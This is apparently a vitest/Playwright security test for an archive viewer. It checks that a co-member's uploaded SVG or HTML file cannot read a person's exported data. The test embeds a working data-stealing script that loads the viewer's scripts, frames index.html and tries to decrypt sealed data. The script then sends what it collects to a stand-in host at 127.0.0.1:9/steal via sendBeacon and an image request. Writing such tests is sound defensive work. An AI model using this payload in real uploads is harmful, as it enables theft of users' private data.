import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumAvailable, launchChromium, openExtracted, type PageRecord, show } from '../support/browser.ts';
import { archiveOf, createTestEnv, runCli, type TestEnv } from '../support/harness.ts';
import { addMember, insertFeature, insertProject, insertRequest, insertUser } from '../support/seed.ts';
import { uploadKey, userWithFiles } from '../support/user-files.ts';
import { viewerSections } from '../support/viewer-data.ts';

/**
 * What an uploaded file can do to the person who opens their archive. A
 * co-member of one of their projects uploads an SVG and an HTML file with a
 * script into a release the person's archive holds. The script tries every
 * way a page opened from the unpacked folder has to the person's data: it
 * poses as the viewer (window.exporterViewer) and loads the viewer's data
 * scripts, which load across file:// origins; it fetches and frames
 * index.html and the JSON; it loads json/ and csv/ as scripts; then it sends
 * what it got to a server. The data scripts are sealed under a key only
 * index.html holds (src/viewer/seal.ts), so what it gets is noise.
 */
const STEAL = (root: string) => `
(async () => {
  const got = [];
  const keep = (what) => got.push(typeof what === 'string' ? what : JSON.stringify(what));
  window.onerror = (message) => keep('error:' + message);
  window.exporterViewer = { sealed: (b) => keep('sealed:' + b), rows: (e, t) => keep(['rows', e, t]), archive: (i) => keep(['archive', i]), files: (l) => keep(['files', l]), entities: (l) => keep(['entities', l]) };
  const html = 'http://www.w3.org/1999/xhtml';
  const host = document.body ?? document.documentElement;
  const load = (src) => new Promise((done) => { const s = document.createElementNS(html, 'script'); s.src = '${root}' + src; s.onload = s.onerror = done; host.append(s); });
  for (const file of ['viewer/archive.js', 'viewer/data/1.js', 'viewer/data/2.js', 'viewer/data/3.js', 'viewer/data/files.js', 'viewer/entities.js', 'json/users.json', 'json/projects.json', 'csv/users.csv', 'csv/projects.csv', 'manifest.json', 'README.txt']) await load(file);
  for (const file of ['index.html', 'json/users.json', 'manifest.json']) {
    try { keep('fetch:' + await (await fetch('${root}' + file)).text()); } catch { keep('fetch refused'); }
    try { const x = new XMLHttpRequest(); x.open('GET', '${root}' + file, false); x.send(); keep('xhr:' + x.responseText); } catch { keep('xhr refused'); }
  }
  const frame = document.createElementNS(html, 'iframe');
  frame.src = '${root}index.html';
  host.append(frame);
  await new Promise((done) => { frame.onload = done; setTimeout(done, 3000); });
  await new Promise((done) => setTimeout(done, 1500));
  try { keep('frame:' + frame.contentDocument.documentElement.outerHTML); } catch { keep('frame refused'); }
  try { keep('frame data:' + JSON.stringify(frame.contentWindow.exporterViewer)); } catch { keep('frame window refused'); }
  // What a thief would do with a data script: undo its base64 and try to inflate it, whole or past a 12-byte IV.
  for (const line of got.filter((g) => g.startsWith('sealed:'))) {
    const bytes = Uint8Array.from(atob(line.slice(7)), (c) => c.charCodeAt(0));
    for (const part of [bytes, bytes.subarray(12), bytes.subarray(12, bytes.length - 16)]) {
      try { keep('opened:' + await new Response(new Blob([part]).stream().pipeThrough(new DecompressionStream('deflate-raw'))).text()); } catch { keep('not opened'); }
    }
  }
  window.__stolen = got.join('\\n');
  try { navigator.sendBeacon('http://127.0.0.1:9/steal', window.__stolen); } catch {}
  new Image().src = 'http://127.0.0.1:9/steal?d=' + encodeURIComponent(window.__stolen.slice(0, 4000));
  window.__done = true;
})();`;

const htmlAttack = (root: string) =>
  `<!doctype html><html><head><title>notes</title></head><body><p>Release notes</p><script>${STEAL(root)}</script></body></html>`;
const svgAttack = (root: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40" fill="red"/><script><![CDATA[${STEAL(root)}]]></script></svg>`;

describe.skipIf(!chromiumAvailable())("an uploaded file cannot read the viewer's data", () => {
  let env: TestEnv;
  let browser: Browser;
  beforeAll(async () => {
    [env, browser] = await Promise.all([createTestEnv(), launchChromium()]);
  });
  afterAll(async () => {
    await browser?.close();
    await env?.close();
  });

  /** Opens `file` of the unpacked archive as the person would from a file manager, waits for its script, and returns what it got. */
  async function openDirectly(view: PageRecord, file: string): Promise<{ stolen: string; requests: string[] }> {
    const context = await browser.newContext({ offline: true });
    const page: Page = await context.newPage();
    const requests: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    try {
      await page.goto(`file://${view.dir}/${file}`);
      const errors: string[] = [];
      page.on('pageerror', (e) => errors.push(String(e)));
      await page
        .waitForFunction(() => (window as unknown as { __done?: boolean }).__done === true, null, { timeout: 20_000 })
        .catch((error: unknown) => {
          throw new Error(`${file}: its script did not finish (${errors.join('; ')})`, { cause: error });
        });
      return { stolen: await page.evaluate(() => (window as unknown as { __stolen: string }).__stolen), requests };
    } finally {
      await context.close();
    }
  }

  it("a co-member's SVG and HTML uploads: shown as a picture and named, never opened from the viewer; opened from the unpacked folder, they get nothing of the person's and send nothing of it; nor does a page put next to index.html", async () => {
    // The person, with data only they have.
    const alice = await insertUser(env.admin, { email: 'alice.private@example.test', name: 'Alice Privatename' });
    const own = await insertProject(env.admin, alice, {
      name: 'Alice secret project',
      description: 'nobody else knows this',
    });
    await insertFeature(env.admin, own, { key: 'SECRET-1', title: 'Alice hidden feature title' });
    // A project of Mallory's with Alice as a member: its release assets are in Alice's archive.
    const mallory = await userWithFiles(env, undefined, [
      {
        key: uploadKey('logo.svg'),
        body: Buffer.from(svgAttack('../../../')),
        name: 'logo.svg',
        contentType: 'image/svg+xml',
      },
      {
        key: uploadKey('notes.html'),
        body: Buffer.from(htmlAttack('../../../')),
        name: 'notes.html',
        contentType: 'text/html',
      },
      { key: uploadKey('notes'), body: Buffer.from(htmlAttack('../../../')), name: 'notes', contentType: 'text/html' },
    ]);
    const project = (
      await env.admin.query<{ project_id: string }>('select project_id from releases where id = $1', [mallory.release])
    ).rows[0]!.project_id;
    await addMember(env.admin, project, alice);
    const request = await insertRequest(env.admin, alice);
    const built = await runCli(['fulfill', '--request', request], env.cliEnv);
    expect(built.code, built.stderr).toBe(0);
    const archive = await archiveOf(env, request);
    const secrets = [
      'alice.private@example.test',
      'Alice Privatename',
      'Alice secret project',
      'nobody else knows this',
      'Alice hidden feature title',
      'SECRET-1',
      alice,
      request,
    ];
    // The data scripts do hold them: sealed, opened here with the key from index.html.
    expect(
      viewerSections(archive.files)
        .map((s) => s.text)
        .join('\n'),
    ).toContain('Alice hidden feature title');
    for (const [name, bytes] of archive.files) {
      if (name.startsWith('viewer/'))
        for (const secret of secrets)
          expect(bytes.toString(), `${name} holds ${secret} in the clear`).not.toContain(secret);
    }
    const paths = (archive.manifest.files as { path: string }[]).map((f) => f.path);
    const svg = paths.find((p) => p.endsWith('logo.svg'))!;
    const html = paths.find((p) => p.endsWith('notes.html'))!;
    const bare = paths.find((p) => p.endsWith('/notes'))!;
    expect(svg.split('/')).toHaveLength(4);

    const view = await openExtracted(browser, archive.zip);
    try {
      const { page } = view;
      // From the viewer: the SVG only as a picture (an <img> runs no script), the HTML and the file with no type named, not linked.
      await show(page, 'view=files');
      expect(await page.locator(`img[src$="logo.svg"]`).count()).toBe(1);
      // Links to the viewer's own pages (#…) only: none opens one of these files.
      for (const file of [svg, html, bare])
        expect(
          await page.locator(`a[href$="${encodeURI(file.split('/').pop()!)}"]:not([href^="#"])`).count(),
          file,
        ).toBe(0);
      const text = await page.locator('main').innerText();
      expect(text).toContain(
        `${html} is in the unpacked folder at this place. This page does not open a file of this type`,
      );
      expect(text).toContain(bare);
      // A click on the picture shows it on a page of the viewer, never the SVG as a document.
      await page.locator('img[src$="logo.svg"]').click();
      await page.waitForSelector('main[data-ready="true"]');
      expect(page.url()).toMatch(/\/index\.html#view=file&path=/);
      expect(await page.locator('h1').innerText()).toBe('logo.svg');
      // The release's row names its files: each cell leads to the viewer's own page for the file.
      await show(page, 'view=entity&entity=release_assets');
      const cells = await page
        .locator('tbody a')
        .evaluateAll((links) => links.map((a) => (a as HTMLAnchorElement).getAttribute('href')));
      for (const href of cells) expect(href).toMatch(/^#/);
      expect(await page.evaluate(() => (window as unknown as { __stolen?: string }).__stolen)).toBeUndefined();
      expect(view.errors).toEqual([]);

      // From the unpacked folder, as a file manager opens them; and a page placed next to index.html.
      writeFileSync(path.join(view.dir, 'attack.html'), htmlAttack(''));
      // A file with no type is shown as text by Chromium: its script never runs (another browser may sniff it as HTML: it gets what the others get).
      const context = await browser.newContext({ offline: true });
      const plain = await context.newPage();
      await plain.goto(`file://${view.dir}/${bare}`);
      await plain.waitForTimeout(1500);
      expect(await plain.evaluate(() => (window as unknown as { __done?: boolean }).__done)).toBeUndefined();
      await context.close();
      for (const file of [html, svg, 'attack.html']) {
        const { stolen, requests } = await openDirectly(view, file);
        // It ran (it could load the scripts) and got only the sealed text and what is the same in every archive.
        expect(stolen, file).toMatch(/sealed:[A-Za-z0-9+/]{40}/);
        expect(stolen, file).toContain('frame refused');
        for (const secret of secrets) expect(stolen, `${file} read ${secret}`).not.toContain(secret);
        for (const url of requests)
          for (const secret of secrets) expect(decodeURIComponent(url), `${file} sent ${secret}`).not.toContain(secret);
      }
    } finally {
      await view.close();
    }
  });

  it('an entity named files, with more rows than share a data file, and a user with files: builds, and the page shows both', async () => {
    const sample = readFileSync(new URL('../../definitions/sample-files.yaml', import.meta.url), 'utf8');
    const renamed = sample.replace('\n  features:\n', '\n  files:\n    table: features\n');
    expect(renamed).not.toBe(sample);
    const definition = path.join(mkdtempSync(path.join(tmpdir(), 'viewer-isolation-')), 'files-entity.yaml');
    writeFileSync(definition, renamed);
    const owner = await userWithFiles(
      env,
      {
        key: uploadKey('me.png'),
        body: readFileSync(new URL('../../docs/viewer-overview.png', import.meta.url)),
        name: 'me.png',
        contentType: 'image/png',
      },
      [],
    );
    const project = (
      await env.admin.query<{ project_id: string }>('select project_id from releases where id = $1', [owner.release])
    ).rows[0]!.project_id;
    for (let i = 0; i < 600; i++)
      await insertFeature(env.admin, project, { key: `F-${i}`, title: `feature ${i} ${'x'.repeat(100)}` });
    const built = await runCli(['fulfill', '--request', owner.request], {
      ...env.cliEnv,
      EXPORT_DEFINITION: definition,
    });
    expect(built.code, built.stderr).toBe(0);
    const archive = await archiveOf(env, owner.request);
    expect(archive.manifest.entities.files.rows).toBe(600);
    const rows = viewerSections(archive.files).find((s) => s.header.kind === 'rows' && s.header.entity === 'files')!;
    expect(rows.text.length).toBeGreaterThan(64 * 1024);
    const view = await openExtracted(browser, archive.zip);
    try {
      await show(view.page, 'view=entity&entity=files');
      expect(await view.page.locator('table > caption').innerText()).toBe('files: rows 1 to 50 of 600');
      await show(view.page, 'view=files');
      await view.page.waitForFunction(
        () => [...document.images].some((img) => img.complete && img.naturalWidth > 0),
        null,
        { timeout: 10_000 },
      );
      expect(view.errors).toEqual([]);
    } finally {
      await view.close();
    }
  });
});
